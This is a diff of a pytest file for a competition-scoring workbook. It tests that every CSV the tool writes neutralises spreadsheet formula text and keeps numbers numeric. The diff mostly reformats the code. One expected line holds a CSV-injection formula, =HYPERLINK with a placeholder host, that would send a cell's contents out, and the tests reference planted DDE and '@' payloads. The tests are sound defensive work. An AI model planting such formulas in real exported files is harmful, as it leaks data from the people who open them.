@@ -1,5 +1,6 @@
 """Result CSVs: text that a spreadsheet would run as a formula is neutralised in every CSV the workbook
 writes (OWASP CSV injection), numbers stay numbers, and `validate` warns about such names."""
+
 from __future__ import annotations
 
 import ast
@@ -46,11 +47,25 @@ def assert_no_formula(path: Path, planted: tuple[str, ...]) -> None:
         assert text not in cells
 
 
-@pytest.mark.parametrize(("text", "written"), [
-    (HYPERLINK, "'" + HYPERLINK), (DDE, "'" + DDE), (AT, "'" + AT), ("-2+3", "'-2+3"), ("\tx", "'\tx"),
-    ("\r=1", "'\r=1"), ("-inf", "'-inf"), ("Kabupaten Ketapang", "Kabupaten Ketapang"), ("-3.5", "-3.5"),
-    ("+12", "+12"), ("1e-5", "1e-5"), ("", ""), (-3.5, -3.5), (None, None),
-])
+@pytest.mark.parametrize(
+    ("text", "written"),
+    [
+        (HYPERLINK, "'" + HYPERLINK),
+        (DDE, "'" + DDE),
+        (AT, "'" + AT),
+        ("-2+3", "'-2+3"),
+        ("\tx", "'\tx"),
+        ("\r=1", "'\r=1"),
+        ("-inf", "'-inf"),
+        ("Kabupaten Ketapang", "Kabupaten Ketapang"),
+        ("-3.5", "-3.5"),
+        ("+12", "+12"),
+        ("1e-5", "1e-5"),
+        ("", ""),
+        (-3.5, -3.5),
+        (None, None),
+    ],
+)
 def test_csv_safe_neutralises_formula_text_only(text: object, written: object) -> None:
     assert csv_safe(text) == written
 
@@ -61,16 +76,22 @@ def test_numbers_stay_numbers_in_the_csv() -> None:
     assert text.splitlines()[1:] == ['"\'=HYPERLINK(""http://x/?d=""&A2,""Klik"")",-3.5,-4', "-3.5,2.0,5"]
 
 
-
 def test_one_number_policy_by_column_type() -> None:
-    table = pd.DataFrame({
-        "jumlah": [30, -4, 0], "nilai": [30.0, 68.02, float("nan")], "kecil": [1e-7, 1e16, -0.0],
-        "boleh_kosong": pd.array([7, None, 0], dtype="Int64"), "pecahan": pd.array([2.0, None, 0.5], dtype="Float64"),
-        "finalis": [True, False, True],
-    })
+    table = pd.DataFrame(
+        {
+            "jumlah": [30, -4, 0],
+            "nilai": [30.0, 68.02, float("nan")],
+            "kecil": [1e-7, 1e16, -0.0],
+            "boleh_kosong": pd.array([7, None, 0], dtype="Int64"),
+            "pecahan": pd.array([2.0, None, 0.5], dtype="Float64"),
+            "finalis": [True, False, True],
+        }
+    )
     assert table_csv_text(table, ("finalis",)).splitlines() == [
         "jumlah,nilai,kecil,boleh_kosong,pecahan,finalis",
-        "30,30.0,1e-07,7,2.0,true", "-4,68.02,1e+16,,,false", "0,,-0.0,0,0.5,true",
+        "30,30.0,1e-07,7,2.0,true",
+        "-4,68.02,1e+16,,,false",
+        "0,,-0.0,0,0.5,true",
     ]
 
 
@@ -96,9 +117,12 @@ def test_every_csv_command_writes_numbers_by_the_one_policy(command: str, small_
     season = read_season(2025, small_season)
     methodology = load_methodology(ROOT / "params" / "2025" / "metodologi.yaml")
     scores = score_season(season, methodology)
-    table = {"score": scores.wide, "gaps": lambda: what_it_takes(season, methodology),
-             "jury": lambda: jury_reliability(season, methodology, scores),
-             "awards": lambda: scores.penghargaan[list(CSV_COLUMNS)]}[command]()
+    table = {
+        "score": scores.wide,
+        "gaps": lambda: what_it_takes(season, methodology),
+        "jury": lambda: jury_reliability(season, methodology, scores),
+        "awards": lambda: scores.penghargaan[list(CSV_COLUMNS)],
+    }[command]()
     with out.open(encoding="utf-8", newline="") as handle:
         rows = list(csv.DictReader(handle))
     numeric = [c for c in table.columns if pd.api.types.is_numeric_dtype(table[c]) and table[c].dtype != bool]
@@ -108,11 +132,14 @@ def test_every_csv_command_writes_numbers_by_the_one_policy(command: str, small_
         assert [row[name] for row in rows] == [_expected_cell(v, floats) for v in table[name]], name
 
 
-@pytest.mark.parametrize(("command", "planted"), [
-    ("score", (HYPERLINK, DDE, AT)),
-    pytest.param("gaps", (HYPERLINK, DDE, AT), marks=pytest.mark.slow),  # the same writer as score, seconds slower
-    ("jury", (JUROR,)),
-])
+@pytest.mark.parametrize(
+    ("command", "planted"),
+    [
+        ("score", (HYPERLINK, DDE, AT)),
+        pytest.param("gaps", (HYPERLINK, DDE, AT), marks=pytest.mark.slow),  # the same writer as score, seconds slower
+        ("jury", (JUROR,)),
+    ],
+)
 def test_every_csv_command_neutralises_formulas(command: str, planted: tuple[str, ...], tmp_path: Path) -> None:
     _planted(tmp_path / "data")
     out = tmp_path / f"{command}.csv"
@@ -125,8 +152,12 @@ def test_validate_warns_about_formula_names(tmp_path: Path, capsys: pytest.Captu
     report = load_season(2025, tmp_path).report
     assert report.ok
     found = {(p.file, p.row, p.column, p.value) for p in report.warnings if p.code == "W_FORMULA_TEXT"}
-    assert {("wilayah.csv", 5, "nama", HYPERLINK), ("desa.csv", 3, "nama", DDE),
-            ("badan_usaha.csv", 2, "nama", AT), ("wawancara.csv", 2, "juri", JUROR)} <= found
+    assert {
+        ("wilayah.csv", 5, "nama", HYPERLINK),
+        ("desa.csv", 3, "nama", DDE),
+        ("badan_usaha.csv", 2, "nama", AT),
+        ("wawancara.csv", 2, "juri", JUROR),
+    } <= found
     assert main(["validate", "--data-dir", str(tmp_path), "--lang", "en"]) == 0
     assert "Excel would run it as a formula" in capsys.readouterr().out
 
@@ -136,9 +167,12 @@ def test_only_outputs_renames_files_into_place() -> None:
     package = ROOT / "paritrana_nb"
     renames = sorted(
         f"{path.relative_to(package)}:{node.lineno}"
-        for path in package.rglob("*.py") if path.name != "outputs.py"
+        for path in package.rglob("*.py")
+        if path.name != "outputs.py"
         for node in ast.walk(ast.parse(path.read_text(encoding="utf-8")))
-        if isinstance(node, ast.Attribute) and node.attr in ("replace", "rename")
-        and isinstance(node.value, ast.Name) and node.value.id == "os"
+        if isinstance(node, ast.Attribute)
+        and node.attr in ("replace", "rename")
+        and isinstance(node.value, ast.Name)
+        and node.value.id == "os"
     )
     assert renames == []
